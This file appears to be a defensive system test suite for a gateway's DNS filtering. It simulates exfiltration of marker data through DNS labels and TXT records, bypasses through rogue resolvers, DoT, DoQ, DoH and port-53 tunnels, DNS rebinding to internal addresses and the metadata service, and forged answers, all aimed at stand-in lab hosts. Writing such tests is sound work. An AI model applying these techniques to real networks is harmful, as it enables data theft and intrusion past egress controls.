# SPDX-License-Identifier: GPL-3.0-or-later
"""Names as a way out, and names that lie about where they lead."""

from __future__ import annotations

from tests.system.network import internet
from tests.system.network.attacks import INTERNET, NAMES, attack
from tests.system.network.field import FAR_GATEWAY4, GATEWAY4, GATEWAY6, UPLINK4, UPLINK6, Field

EVIL4, EVIL6 = internet.HOSTS["evil-resolver"]
FORBIDDEN4, FORBIDDEN6 = internet.HOSTS["forbidden"]
NEIGHBOUR4, NEIGHBOUR6 = internet.HOSTS["neighbour"]
REDIRECTED = "port 53 to anywhere is answered by the scope's own resolver"
REBIND = "answers with special addresses are not given, and special networks are closed whatever a set says"


def _evil(field: Field, marker: str) -> bool:
    return any(query["server"] == "evil-resolver" for query in field.lab.internet.asked(marker))


@attack(REDIRECTED)
def another_resolver(field: Field) -> bool:
    """Asks a resolver of its own on the internet over UDP."""
    marker = field.marker()
    field.web.probe("dns", server=EVIL4, name=f"{marker}.allowed.example")
    return _evil(field, marker)


@attack(REDIRECTED)
def another_resolver_over_tcp(field: Field) -> bool:
    """Asks a resolver of its own on the internet over TCP."""
    marker = field.marker()
    field.web.probe("dns", server=EVIL4, name=f"{marker}.allowed.example", transport="tcp")
    return _evil(field, marker)


@attack(REDIRECTED)
def another_resolver_over_ipv6(field: Field) -> bool:
    """Asks a resolver of its own on the internet over IPv6, by UDP and by TCP."""
    marker = field.marker()
    field.web.probe("dns", server=EVIL6, name=f"{marker}.allowed.example")
    field.web.probe("dns", server=EVIL6, name=f"{marker}.allowed.example", transport="tcp")
    return _evil(field, marker)


@attack("TCP 853 is closed in every mode")
def dns_over_tls(field: Field) -> bool:
    """Asks a resolver of its own over TLS (DoT)."""
    marker = field.marker()
    field.web.probe("dns", server=EVIL4, name=f"{marker}.allowed.example", transport="dot")
    field.web.probe("dns", server=EVIL6, name=f"{marker}.allowed.example", transport="dot")
    return field.asked(marker)


@attack("UDP 853 is closed in every mode")
def dns_over_quic(field: Field) -> bool:
    """Asks a resolver of its own over QUIC (DoQ, UDP 853)."""
    return field.opens_any("udp", *({"address": address, "port": 853} for address in (EVIL4, EVIL6)))


@attack("addresses of known DoH services are closed in every mode")
def dns_over_https_at_a_known_service(field: Field) -> bool:
    """Asks a well-known DNS service over HTTPS (DoH) by its address."""
    known4, known6 = internet.HOSTS["known-doh"]
    marker = field.marker()
    for address in (known4, known6):
        field.web.probe("dns", server=address, name=f"{marker}.allowed.example", transport="doh")
    return field.asked(marker)


@attack("names of known DoH services are refused in every mode", bare=False)
def name_of_a_known_dns_service(field: Field) -> bool:
    """Asks the resolver where a well-known DNS service over HTTPS is."""
    return any(field.ask("cloudflare-dns.com", kind)["answers"] for kind in ("A", "AAAA"))


DOH = {"open": "DoH at an address that no list knows looks like any other HTTPS"}


@attack("no grant of the scope has the address", DOH)
def dns_over_https_at_an_unknown_service(field: Field) -> bool:
    """Asks a DNS service over HTTPS that no list knows."""
    marker = field.marker()
    address = internet.HOSTS["doh"][0]
    field.web.probe("dns", server=address, name=f"{marker}.allowed.example", transport="doh")
    return field.asked(marker)


@attack("names that no rule allows are refused, and never asked of anybody", NAMES, bare=False)
def data_in_questions(field: Field) -> bool:
    """Carries data out in the labels of questions for a name of its own."""
    marker = field.marker()
    field.ask(f"{marker}.forbidden.example")
    return field.asked(marker)


@attack("names that no rule allows are refused; records that carry anything are taken out of answers", bare=False)
def data_in_txt_records(field: Field) -> bool:
    """Fetches data in TXT records of a name of its own."""
    return bool(field.ask(f"{field.marker()}.forbidden.example", "TXT")["answers"])


@attack("names that no rule allows are refused over TCP too", NAMES, bare=False)
def data_in_questions_over_tcp(field: Field) -> bool:
    """Carries data out in questions over TCP to the gateway's resolver."""
    marker = field.marker()
    field.ask(f"{marker}.forbidden.example", transport="tcp")
    return field.asked(marker)


@attack(
    "modes strict and locked resolve no name of the internet for machines",
    {
        **NAMES,
        "allowlist": "a domain covers all below it, so its own name servers see the labels that are asked for",
    },
    bare=False,
)
def data_in_questions_below_an_allowed_name(field: Field) -> bool:
    """Carries data in questions to the name servers of an allowed domain."""
    marker = field.marker()
    field.ask(f"{marker}.allowed.example")
    return field.asked(marker)


@attack("a denied name is refused in every mode, below an allowed one too, however it is written", bare=False)
def denied_name_in_other_letters(field: Field) -> bool:
    """Asks for a denied name in capitals, with a dot at its end, and below it."""
    marker = field.marker()
    for name in ("DENIED.allowed.example", "denied.allowed.example.", f"{marker}.Denied.Allowed.Example"):
        if field.ask(name)["answers"]:
            return True
    return field.asked(marker)


@attack(REDIRECTED, bare=True)
def tunnel_over_port_53(field: Field) -> bool:
    """Sends what is no DNS at all to port 53 of an accomplice, over UDP and TCP."""
    marker = field.marker()
    field.web.probe("udp", address=FORBIDDEN4, port=53, data=marker * 3, timeout=0.5)
    field.web.probe("udp", address=FORBIDDEN6, port=53, data=marker * 3, timeout=0.5)
    field.web.probe("http", address=FORBIDDEN4, port=53, host=marker, timeout=0.5)
    return field.left(marker)


@attack("the resolver of a scope answers its own machines alone", bare=False)
def resolver_of_another_scope(field: Field) -> bool:
    """Asks the resolver of another project at its port on the gateway."""
    port = field.ports.get("project-data", 0)
    names = ("project.example", "hub.fleet")
    tries = (
        {"server": address, "name": name, "port": port, "transport": transport}
        for address in (GATEWAY4, GATEWAY6)
        for name in names
        for transport in ("udp", "tcp")
    )
    return bool(port) and field.opens_any("dns", *tries)


@attack("the resolver answers on bridges alone", bare=False)
def resolver_from_outside(field: Field) -> bool:
    """Lets somebody on the internet ask the gateway's resolvers, by all its addresses."""
    ports = {53, *field.ports.values()} - {0}
    waiting = [
        field.lab.internet.namespace.agent.begin("dns", server=address, name="allowed.example", port=port)
        for port in ports
        for address in (UPLINK4, UPLINK6, GATEWAY4, GATEWAY6, FAR_GATEWAY4)
    ]
    return any("rcode" in future.result(timeout=60) for future in waiting)


@attack(REBIND)
def name_that_leads_to_the_gateway(field: Field) -> bool:
    """Points an allowed name at the gateway's own address (DNS rebinding) and connects to a service there."""
    field.lab.internet.records({"rebind.allowed.example": {"A": [GATEWAY4], "AAAA": [GATEWAY6]}})
    field.learn("rebind.allowed.example")
    return field.opens_any("tcp", *({"address": address, "port": 8006} for address in (GATEWAY4, GATEWAY6)))


@attack(REBIND)
def name_that_leads_to_a_neighbour(field: Field) -> bool:
    """Points an allowed name at a private address behind the gateway and connects to it."""
    field.learn("special.allowed.example")
    return field.opens_any("tls", *({"address": address, "sni": "x.example"} for address in (NEIGHBOUR4, NEIGHBOUR6)))


@attack(REBIND)
def alias_to_a_neighbour(field: Field) -> bool:
    """Makes an allowed name an alias of a name with a private address."""
    field.lab.internet.records(
        {"hop.allowed.example": {"CNAME": ["lan.forbidden.example"]}, "lan.forbidden.example": {"A": [NEIGHBOUR4]}}
    )
    field.learn("hop.allowed.example")
    return field.opens("tls", address=NEIGHBOUR4, sni="hop.allowed.example")


@attack(REBIND)
def name_that_leads_to_metadata(field: Field) -> bool:
    """Points an allowed name at the metadata service."""
    field.learn("metadata.allowed.example")
    return field.opens_any("tls", *({"address": address} for address in internet.HOSTS["metadata"]))


@attack(REBIND)
def name_that_leads_to_another_machine(field: Field) -> bool:
    """Points an allowed name at another machine of the fleet."""
    guest = field.far.guest
    field.lab.internet.records({"far.allowed.example": {"A": [guest.address4], "AAAA": [guest.address6]}})
    field.learn("far.allowed.example")
    return field.opens_any("tcp", *({"address": address, "port": 8080} for address in (guest.address4, guest.address6)))


@attack(
    "modes strict and locked forward nothing",
    {
        "allowlist": "who owns an allowed domain decides where it leads; a rule with a network says it more exactly",
        **INTERNET,
    },
)
def alias_to_a_forbidden_name(field: Field) -> bool:
    """Makes an allowed name an alias of one that is not allowed, and connects to what it leads to."""
    field.learn("alias.allowed.example")
    return field.opens("tls", address=internet.HOSTS["elsewhere"][0], sni="alias.allowed.example")


HINT = (1).to_bytes(2, "big") + b"\0" + bytes.fromhex("00040004") + bytes(map(int, EVIL4.split(".")))


@attack("addresses are learned from A and AAAA records alone", INTERNET)
def address_in_an_https_record(field: Field) -> bool:
    """Puts an address into the hints of an HTTPS record of an allowed name, which no A record has."""
    field.lab.internet.records({"hint.allowed.example": {"HTTPS": [HINT.hex()], "A": [internet.HOSTS["allowed"][0]]}})
    field.ask("hint.allowed.example", "HTTPS")
    field.learn("hint.allowed.example")
    return field.opens("tls", address=EVIL4, sni="hint.allowed.example")


@attack("only what the gateway's resolver asked its own upstream for is learned", INTERNET)
def forged_answer(field: Field) -> bool:
    """Sends answers of its own making to the gateway's resolver, to have an address opened."""
    for port in {53, *field.ports.values()} - {0}:
        field.web.probe("udp", address=GATEWAY4, port=port, data="\0\0\x84\0\0\0\0\x01" + "x" * 40, timeout=0.2)
    return field.opens("tls", address=FORBIDDEN4, sni="allowed.example")
